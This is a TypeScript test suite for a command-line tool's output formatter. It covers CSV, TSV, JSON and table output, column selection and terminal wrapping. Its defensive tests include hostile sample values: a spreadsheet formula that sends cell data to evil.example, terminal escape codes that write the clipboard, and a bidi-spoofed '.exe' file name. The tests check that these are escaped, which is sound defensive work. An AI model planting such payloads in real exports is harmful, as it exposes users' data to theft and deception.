import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import stringWidth from 'string-width';
import { describe, expect, it } from 'vitest';
import { cellText, tsvField } from '../../../src/core/term/output/cells.js';
import { chooseFormat, useColor, type Format } from '../../../src/core/term/output/format.js';
import { Output } from '../../../src/core/term/output/output.js';

function capture(format: Format, color = false) {
  const stream = new PassThrough();
  let text = '';
  stream.on('data', (chunk) => (text += chunk));
  return { output: new Output(stream, format, color), text: () => text };
}

/** An Output on a terminal `columns` wide, with its notes (what goes to stderr) gathered. */
function onTerminal(columns: number) {
  const stream = Object.assign(new PassThrough(), { columns });
  let text = '';
  stream.on('data', (chunk) => (text += chunk));
  const notes: string[] = [];
  const output = new Output(stream, 'table', false);
  output.configure({ note: (message) => notes.push(message) });
  return { output, notes, text: () => text };
}

const rows = [
  { id: 1, name: 'plain', tags: ['a', 'b'], note: null },
  { id: 2, name: 'comma, "quote"\nnewline', tags: [], note: 'tab\there' },
];
const columns = [
  { header: 'ID', value: (r: (typeof rows)[number]) => r.id },
  { header: 'Name', value: (r: (typeof rows)[number]) => r.name },
];

describe('Output', () => {
  it('csv quotes commas, quotes and newlines and round-trips with every field', async () => {
    const { output, text } = capture('csv');
    expect(await output.list(rows, columns)).toBe(2);
    const parsed = parse(text(), { columns: true }) as Array<Record<string, string>>;
    expect(parsed).toEqual([
      { id: '1', name: 'plain', tags: 'a,b', note: '' },
      { id: '2', name: 'comma, "quote"\nnewline', tags: '', note: 'tab\there' },
    ]);
  });

  it('tsv escapes tabs and newlines so every record is one line', async () => {
    const { output, text } = capture('tsv');
    await output.list(rows, columns);
    const lines = text().trimEnd().split('\n');
    expect(lines).toEqual(['id\tname\ttags\tnote', '1\tplain\ta,b\t', '2\tcomma, "quote"\\nnewline\t\ttab\\there']);
  });

  it('ndjson writes one object per line, json one array', async () => {
    const nd = capture('ndjson');
    await nd.output.list(rows, columns);
    expect(
      nd
        .text()
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line)),
    ).toEqual(rows);
    const js = capture('json');
    await js.output.list(rows, columns);
    expect(JSON.parse(js.text())).toEqual(rows);
    const empty = capture('json');
    await empty.output.list([], columns);
    expect(JSON.parse(empty.text())).toEqual([]);
  });

  it('prints the rows it has as soon as an async source waits for more', async () => {
    const { output, text } = capture('ndjson');
    const seen: string[] = [];
    async function* source() {
      yield { n: 1 };
      await new Promise((resolve) => setTimeout(resolve, 5)); // the next page is on its way
      seen.push(text());
      yield { n: 2 };
    }
    await output.list(source(), [{ header: 'n', value: (r: { n: number }) => r.n }]);
    expect(seen).toEqual(['{"n":1}\n']);
    expect(text()).toBe('{"n":1}\n{"n":2}\n');
  });

  it('writes the rows that arrive together in one write, and still those before a failure', async () => {
    const writes: string[] = [];
    const sink = { write: (chunk: string) => (writes.push(chunk), true), once: () => undefined };
    const output = new Output(sink, 'ndjson', false);
    async function* page() {
      for (let n = 1; n <= 100; n += 1) yield { n };
      await new Promise((resolve) => setTimeout(resolve, 5));
      throw new Error('connection reset');
    }
    await expect(output.list(page(), [])).rejects.toThrow('connection reset');
    expect(writes).toHaveLength(1);
    expect(writes[0]!.split('\n')).toHaveLength(101);
  });

  it('writes a list that comes a page at a time in one write per page, and the pages before a failure', async () => {
    const writes: string[] = [];
    const sink = { write: (chunk: string) => (writes.push(chunk), true), once: () => undefined };
    const output = new Output(sink, 'ndjson', false);
    async function* pages() {
      for (let page = 0; page < 3; page += 1) {
        yield Array.from({ length: 100 }, (_, n) => ({ n: page * 100 + n }));
        await new Promise((resolve) => setTimeout(resolve, 5));
      }
      throw new Error('connection reset');
    }
    await expect(output.list({ pages: pages() }, [])).rejects.toThrow('connection reset');
    expect(writes).toHaveLength(3);
    expect(
      writes
        .join('')
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line).n),
    ).toEqual(Array.from({ length: 300 }, (_, n) => n));
  });

  it('waits for a slow sink to drain before the next page', async () => {
    const sink = new PassThrough({ highWaterMark: 1024 });
    const output = new Output(sink, 'ndjson', false);
    let made = 0;
    async function* pages() {
      for (; made < 3;) {
        made += 1;
        yield Array.from({ length: 100 }, (_, n) => ({ n, padding: 'x'.repeat(50) }));
        await new Promise((resolve) => setImmediate(resolve)); // pages arrive in turns of their own
      }
    }
    let finished = false;
    const listing = output.list({ pages: pages() }, []).then((count) => ((finished = true), count));
    await new Promise((resolve) => setTimeout(resolve, 20));
    // Nobody reads: the first page was written, the second is held until 'drain', the third not asked for.
    expect([made, finished]).toEqual([2, false]);
    const read = (async () => {
      let text = '';
      for await (const chunk of sink) text += chunk;
      return text;
    })();
    expect(await listing).toBe(300);
    sink.end();
    expect((await read).trimEnd().split('\n')).toHaveLength(300);
  });

  it('waits for a slow sink to drain between batches', async () => {
    const sink = new PassThrough({ highWaterMark: 1024 });
    const output = new Output(sink, 'ndjson', false);
    const rows = Array.from({ length: 5000 }, (_, n) => ({ n, padding: 'x'.repeat(50) }));
    let finished = false;
    const listing = output.list(rows, []).then(() => (finished = true));
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(finished).toBe(false); // nobody reads: it is waiting for 'drain'
    const read = (async () => {
      let text = '';
      for await (const chunk of sink) text += chunk;
      return text;
    })();
    await listing;
    sink.end();
    expect((await read).trimEnd().split('\n')).toHaveLength(5000);
  });

  it('table shows the chosen columns, without ANSI codes when colour is off', async () => {
    const { output, text } = capture('table', false);
    await output.list(rows, columns);
    expect(text()).toContain('ID');
    expect(text()).toContain('plain');
    expect(text()).not.toContain('tags');
    expect(text()).not.toMatch(/\u001b\[/);
    const coloured = capture('table', true);
    await coloured.output.list(rows, columns);
    expect(coloured.text()).toMatch(/\u001b\[/);
  });

  it('fits a list table to the terminal by wrapping text: ids whole, nothing cut, each row ruled off', async () => {
    const stream = Object.assign(new PassThrough(), { columns: 70 });
    let text = '';
    stream.on('data', (chunk) => (text += chunk));
    const rows = [
      {
        id: '0146d6eb-a68f-4103-802e-a8ca5faad817',
        title: 'Крупа гречневая ядрица 800 г, отборная, в пакетах для варки',
        brand: 'Мистраль',
      },
      { id: '003ffeb0-e028-4bc9-9f05-14869d0d6854', title: '漢字のタイトル、とても長い商品名です', brand: 'Ritter Sport' },
    ];
    await new Output(stream, 'table', false).list(rows, [
      { header: 'id', value: (r) => r.id },
      { header: 'title', value: (r) => r.title },
      { header: 'brand', value: (r) => r.brand },
    ]);
    const lines = text.trimEnd().split('\n');
    for (const line of lines) expect(stringWidth(line)).toBeLessThanOrEqual(70);
    expect(text).not.toContain('…');
    expect(lines[1]).toMatch(/│ id +│ title +│ brand +│/);
    expect(lines[3]).toContain('0146d6eb-a68f-4103-802e-a8ca5faad817');
    // The rows are ruled off from each other: the second starts after a rule, not on a continuation line.
    const second = lines.findIndex((line) => line.includes('003ffeb0-e028-4bc9-9f05-14869d0d6854'));
    expect(lines[second - 1]).toMatch(/^├─+┼─+┼─+┤$/);
    const titleText = lines.map((line) => line.split('│')[2]?.trim() ?? '').join(' ');
    for (const word of ['Крупа', 'гречневая', 'ядрица', 'варки', 'Ritter Sport']) expect(titleText + lines.join('')).toContain(word);
  });

  it('hides the least important columns to keep numbers and ids whole, and says on stderr how to see them', async () => {
    const { output, notes, text: screen } = onTerminal(80);
    const row = {
      id: '0146d6eb-a68f-4103-802e-a8ca5faad817',
      price: 222.33,
      observed: '2026-02-01T06:00:00Z',
      store: 'fixprice',
      unit: 'RUB',
    };
    await output.list(
      [row],
      [
        { header: 'id', value: (r) => r.id },
        { header: 'price', value: (r) => r.price },
        { header: 'store', value: (r) => r.store, hide: 3 },
        { header: 'unit', value: (r) => r.unit, hide: 1 },
        { header: 'observed', value: (r) => r.observed, hide: 2 },
      ],
    );
    for (const line of screen().trimEnd().split('\n')) expect(stringWidth(line)).toBeLessThanOrEqual(80);
    for (const whole of [row.id, '222.33', 'fixprice']) expect(screen()).toContain(whole);
    expect(screen()).not.toContain('…');
    expect(screen()).not.toContain('RUB');
    // Wrapped to the terminal, its continuation indented.
    expect(notes).toEqual(['unit, observed hidden to fit 80 columns; to choose the columns: --columns\n  id,price,store,unit,observed']);
  });

  it('a table that declares no order of importance hides its last columns first, never the first', async () => {
    const { output, notes, text: screen } = onTerminal(80);
    const key = {
      id: '0146d6eb-a68f-4103-802e-a8ca5faad817',
      name: 'ci-reader',
      scopes: 'read,write',
      subaccount: 'all',
      created: '2026-02-01T06:00:00.123Z',
    };
    await output.list(
      [key],
      [
        { header: 'id', value: (k) => k.id },
        { header: 'name', value: (k) => k.name },
        { header: 'scopes', value: (k) => k.scopes },
        { header: 'subaccount', value: (k) => k.subaccount },
        { header: 'time total', value: (k) => k.created },
      ],
    );
    for (const line of screen().trimEnd().split('\n')) expect(stringWidth(line)).toBeLessThanOrEqual(80);
    for (const whole of [key.id, 'ci-reader', 'read,write', 'all']) expect(screen()).toContain(whole);
    expect(notes).toEqual([
      "time total hidden to fit 80 columns; to choose the columns: --columns\n  'id,name,scopes,subaccount,time total'",
    ]);
  });

  it('--columns chooses and orders the columns of table, csv and tsv; an unknown name is exit 2 naming the valid ones', async () => {
    const list = [{ id: 1, name: 'a', extra: 'x' }];
    const cols = [{ header: 'ID', key: 'id', value: (r: (typeof list)[number]) => r.id }];
    const csv = capture('csv');
    csv.output.configure({ columns: 'extra,id' });
    await csv.output.list(list, cols);
    expect(csv.text()).toBe('extra,id\nx,1\n');
    const table = capture('table');
    table.output.configure({ columns: 'name,id' });
    await table.output.list(list, cols);
    expect(table.text()).toMatch(/name +│ ID/);
    const bad = capture('tsv');
    bad.output.configure({ columns: 'id,nmae' });
    await expect(bad.output.list([], cols, undefined, ['id', 'name', 'extra'])).rejects.toMatchObject({
      exitCode: 2,
      message: 'unknown column in --columns: nmae',
      hint: 'did you mean name? the columns here: id, name, extra (or as the table calls them: ID)',
    });
    expect(() => capture('csv').output.configure({ columns: 'id,,name' })).toThrow(/invalid --columns/);
  });

  it("--columns takes a table's label for its field in every format, and refuses a label that names no field", async () => {
    const list = [{ api_key: 'k1', in_use: true }];
    const cols = [
      { header: 'id', key: 'api_key', value: (r: (typeof list)[number]) => r.api_key },
      { header: 'in use', key: 'in_use', value: (r: (typeof list)[number]) => (r.in_use ? 'yes' : undefined) },
      { header: 'shown only', value: () => 'x' },
    ];
    for (const format of ['csv', 'tsv'] as const) {
      const out = capture(format);
      out.output.configure({ columns: 'in use,id' });
      await out.output.list(list, cols);
      expect(out.text()).toBe(format === 'csv' ? 'in_use,api_key\ntrue,k1\n' : 'in_use\tapi_key\ntrue\tk1\n');
    }
    const table = capture('table');
    table.output.configure({ columns: 'in_use,id' });
    await table.output.list(list, cols);
    expect(table.text()).toMatch(/in use +│ id/);
    expect(table.text()).toMatch(/yes +│ k1/);
    const bad = capture('csv');
    bad.output.configure({ columns: 'id,shown only' });
    await expect(bad.output.list(list, cols)).rejects.toMatchObject({ exitCode: 2, message: 'unknown column in --columns: shown only' });
    expect(bad.text()).toBe('');
  });

  it('--columns picks and orders the fields of json and ndjson records too, by key or table label', async () => {
    const list = [{ api_key: 'k1', in_use: true, extra: 'x' }];
    const cols = [{ header: 'in use', key: 'in_use', value: (r: (typeof list)[number]) => r.in_use }];
    const json = capture('json');
    json.output.configure({ columns: 'in use,api_key' });
    await json.output.list(list, cols);
    expect(JSON.parse(json.text())).toEqual([{ in_use: true, api_key: 'k1' }]);
    const nd = capture('ndjson');
    nd.output.configure({ columns: 'extra' });
    await nd.output.list(list, cols);
    expect(nd.text()).toBe('{"extra":"x"}\n');
    const one = capture('json');
    one.output.configure({ columns: 'extra' });
    await one.output.object({ id: 1, extra: 'x' });
    expect(JSON.parse(one.text())).toEqual({ extra: 'x' });
    const bad = capture('json');
    bad.output.configure({ columns: 'nmae' });
    await expect(bad.output.list(list, cols)).rejects.toMatchObject({ exitCode: 2, message: 'unknown column in --columns: nmae' });
    expect(bad.text()).toBe('');
  });

  it('--no-header: the rows alone in table, csv and tsv, also for an empty list', async () => {
    const list = [{ id: 1, name: 'a' }];
    const cols = [
      { header: 'id', value: (r: (typeof list)[number]) => r.id },
      { header: 'name', value: (r: (typeof list)[number]) => r.name },
    ];
    for (const [format, expected] of [
      ['csv', '1,a\n'],
      ['tsv', '1\ta\n'],
    ] as const) {
      const out = capture(format);
      out.output.configure({ header: false });
      await out.output.list(list, cols);
      expect(out.text()).toBe(expected);
      const empty = capture(format);
      empty.output.configure({ header: false });
      await empty.output.list([], cols, undefined, ['id', 'name']);
      expect(empty.text()).toBe('');
    }
    const table = capture('table', false);
    table.output.configure({ header: false });
    await table.output.list(list, cols);
    expect(table.text()).not.toContain('name');
    expect(table.text().trimEnd().split('\n')).toHaveLength(3);
  });

  it('prints the header of an empty csv or tsv list when the fields are known', async () => {
    const csv = capture('csv');
    await csv.output.list([], columns, undefined, ['id', 'name']);
    expect(csv.text()).toBe('id,name\n');
    const tsv = capture('tsv');
    tsv.output.configure({ columns: 'name' });
    await tsv.output.list([], columns, undefined, ['id', 'name']);
    expect(tsv.text()).toBe('name\n');
  });

  it('shows hostile text escaped: control, bidi and zero-width characters, and a newline never makes a row', async () => {
    const evil = { name: 'prod-\u202eredaer', title: 'a\u200bb\nfake │ row', unit: '\u001b]52;c;cHduZWQ=\u0007\u001b[2J' };
    const table = capture('table', false);
    await table.output.list(
      [evil],
      [
        { header: 'name', value: (r) => r.name },
        { header: 'title', value: (r) => r.title },
        { header: 'unit', value: (r) => r.unit },
      ],
    );
    expect(table.text()).toContain('prod-\\u202eredaer');
    expect(table.text()).toContain('a\\u200bb\\nfake │ row');
    expect(table.text()).toContain('\\x1b]52;c;cHduZWQ=\\x07\\x1b[2J');
    expect(table.text()).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u202e]/);
    expect(table.text().trimEnd().split('\n')).toHaveLength(5); // top, header, rule, the one row, bottom
    const record = capture('table', false);
    await record.output.object(evil);
    expect(record.text()).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u202e]/);
  });

  it('csv and tsv escape control characters (ESC as \\e) and stay valid', async () => {
    const row = { unit: 'R\u001b[2JUB', note: 'bell\u0007 c1\u009b', plain: 'a,b\n"c"' };
    const csv = capture('csv');
    await csv.output.list([row], []);
    expect(csv.text()).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(parse(csv.text(), { columns: true })).toEqual([{ unit: 'R\\e[2JUB', note: 'bell\\x07 c1\\x9b', plain: 'a,b\n"c"' }]);
    const tsv = capture('tsv');
    await tsv.output.list([row], []);
    expect(tsv.text()).toBe('unit\tnote\tplain\nR\\e[2JUB\tbell\\x07 c1\\x9b\ta,b\\n"c"\n');
  });

  it('csv and tsv give a text cell that a spreadsheet would run as a formula a leading quote; numbers stay as they are', async () => {
    const hostile = {
      name: '=HYPERLINK("https://evil.example/?"&A1)',
      plus: '+1+cmd',
      minus: '-2+3',
      at: '@SUM(A1)',
      tab: '\t=1',
      cr: '\r=1',
      list: ['=a', 'b'],
    };
    const numbers = { n: -3, big: -12345678901234567890n, text: 'fine', dash: 'a-b', empty: '', none: null, yes: true };
    const csv = capture('csv');
    await csv.output.list([hostile], []);
    expect(parse(csv.text(), { columns: true })).toEqual([
      { name: `'${hostile.name}`, plus: "'+1+cmd", minus: "'-2+3", at: "'@SUM(A1)", tab: "'\t=1", cr: "'\r=1", list: "'=a,b" },
    ]);
    const tsv = capture('tsv');
    await tsv.output.list([hostile], []);
    expect(tsv.text().split('\n')[1]).toBe(`'${hostile.name}\t'+1+cmd\t'-2+3\t'@SUM(A1)\t'\\t=1\t'\\r=1\t'=a,b`);
    for (const format of ['csv', 'tsv'] as const) {
      const plain = capture(format);
      await plain.output.list([numbers], []);
      expect(plain.text().split('\n')[1]).toBe(
        ['-3', '-12345678901234567890', 'fine', 'a-b', '', '', 'true'].join(format === 'csv' ? ',' : '\t'),
      );
    }
  });

  it('csv and tsv keep a negative decimal written as text as it is in a field declared a decimal, and quote it elsewhere', async () => {
    const row = { amount: '-12.50', note: '-12.50', odd: '-1+1' };
    for (const format of ['csv', 'tsv'] as const) {
      const out = capture(format);
      await out.output.list([row], [], undefined, undefined, ['amount', 'odd']);
      expect(out.text().split('\n')[1]).toBe(['-12.50', "'-12.50", "'-1+1"].join(format === 'csv' ? ',' : '\t'));
    }
  });

  it('csv and tsv escape bidi controls as \\u.... (json leaves them to JSON)', async () => {
    const row = { name: 'invoice-\u202egnp.exe', iso: 'a\u2066b\u2069c', mark: 'a\u202ab\u202cc' };
    const csv = capture('csv');
    await csv.output.list([row], []);
    expect(parse(csv.text(), { columns: true })).toEqual([
      { name: 'invoice-\\u202egnp.exe', iso: 'a\\u2066b\\u2069c', mark: 'a\\u202ab\\u202cc' },
    ]);
    const tsv = capture('tsv');
    await tsv.output.list([row], []);
    expect(tsv.text()).toBe('name\tiso\tmark\ninvoice-\\u202egnp.exe\ta\\u2066b\\u2069c\ta\\u202ab\\u202cc\n');
    const json = capture('ndjson');
    await json.output.list([row], []);
    expect(JSON.parse(json.text())).toEqual(row);
  });

  it('wraps a record table to the terminal instead of cutting its values, and never splits an id', async () => {
    const stream = Object.assign(new PassThrough(), { columns: 70 });
    let text = '';
    stream.on('data', (chunk) => (text += chunk));
    const file = '/home/ci/.config/trident/keys/0146d6eb-a68f-4103-802e-a8ca5faad817.pem';
    await new Output(stream, 'table', true).object({
      title: 'Крупа гречневая ядрица 800 г, отборная, в пакетах для варки',
      price: 91.98,
      private_key_file: file,
    });
    const lines = text.trimEnd().split('\n');
    for (const line of lines) expect(stringWidth(line)).toBeLessThanOrEqual(70);
    const plain = text.replace(/\u001b\[\d+m/g, '');
    for (const word of ['Крупа', 'гречневая', 'отборная,', 'варки', '91.98']) expect(plain).toContain(word);
    expect(plain).not.toContain('…');
    // The path is split at a slash, not cut: its pieces, in order, give it back, and the id in it is whole.
    const valueLines = plain.split('\n').map((line) => line.split('│')[2]?.trim() ?? '');
    expect(valueLines.join('')).toContain(file);
    expect(valueLines).toContain('0146d6eb-a68f-4103-802e-a8ca5faad817.pem');
    expect(text).toContain('\u001b[1mtitle\u001b[22m');
  });

  it('prints a record as "field: value" lines when its names and ids do not fit beside each other', async () => {
    const { output, text } = onTerminal(50);
    const file = '/home/ci/.config/trident/keys/0146d6eb-a68f-4103-802e-a8ca5faad817.pem';
    await output.object({
      title: 'Крупа гречневая ядрица 800 г, отборная',
      price: 91.98,
      private_key_file: file,
    });
    expect(text()).toBe(
      [
        'title:            Крупа гречневая ядрица 800 г,',
        '                  отборная',
        'price:            91.98',
        'private key file:',
        '  /home/ci/.config/trident/keys/',
        '  0146d6eb-a68f-4103-802e-a8ca5faad817.pem',
        '',
      ].join('\n'),
    );
  });

  it('leaves a table alone when not on a terminal (no width known)', async () => {
    const { output, text } = capture('table');
    const long = 'x'.repeat(300);
    await output.list([{ long }], [{ header: 'long', value: (r) => r.long }]);
    expect(text()).toContain(long);
  });

  it('prints nothing for an empty table', async () => {
    const { output, text } = capture('table');
    expect(await output.list([], columns)).toBe(0);
    expect(text()).toBe('');
  });

  it('prints single objects in every format', async () => {
    const record = { api_key: 'k', scopes: ['read'] };
    const js = capture('json');
    await js.output.object(record);
    expect(JSON.parse(js.text())).toEqual(record);
    const csv = capture('csv');
    await csv.output.object(record);
    expect(csv.text()).toBe('api_key,scopes\nk,read\n');
    const table = capture('table');
    await table.output.object(record);
    // For people the field names read as words.
    expect(table.text()).toMatch(/│ api key │ k +│/);
  });
});

describe('format and colour choice', () => {
  it('defaults to table on a TTY and tsv when piped', () => {
    expect(chooseFormat(undefined, true)).toBe('table');
    expect(chooseFormat(undefined, false)).toBe('tsv');
    expect(chooseFormat('json', true)).toBe('json');
    expect(() => chooseFormat('xml', true)).toThrow(/invalid output format/);
  });

  it('follows --no-color, NO_COLOR, FORCE_COLOR and TERM=dumb', () => {
    expect(useColor(undefined, {}, true)).toBe(true);
    expect(useColor(undefined, {}, false)).toBe(false);
    expect(useColor(false, { FORCE_COLOR: '1' }, true)).toBe(false);
    expect(useColor(undefined, { NO_COLOR: '1' }, true)).toBe(false);
    expect(useColor(undefined, { FORCE_COLOR: '1' }, false)).toBe(true);
    expect(useColor(undefined, { FORCE_COLOR: '0' }, true)).toBe(false);
    expect(useColor(undefined, { TERM: 'dumb' }, true)).toBe(false);
    expect(useColor(undefined, { TERM: 'dumb', FORCE_COLOR: '1' }, true)).toBe(true);
  });

  it('renders cells: null empty, lists joined, objects as JSON', () => {
    expect(cellText(null)).toBe('');
    expect(cellText(['read', 'write'])).toBe('read,write');
    expect(cellText({ a: 1 })).toBe('{"a":1}');
    expect(tsvField('a\\b')).toBe('a\\\\b');
  });
});
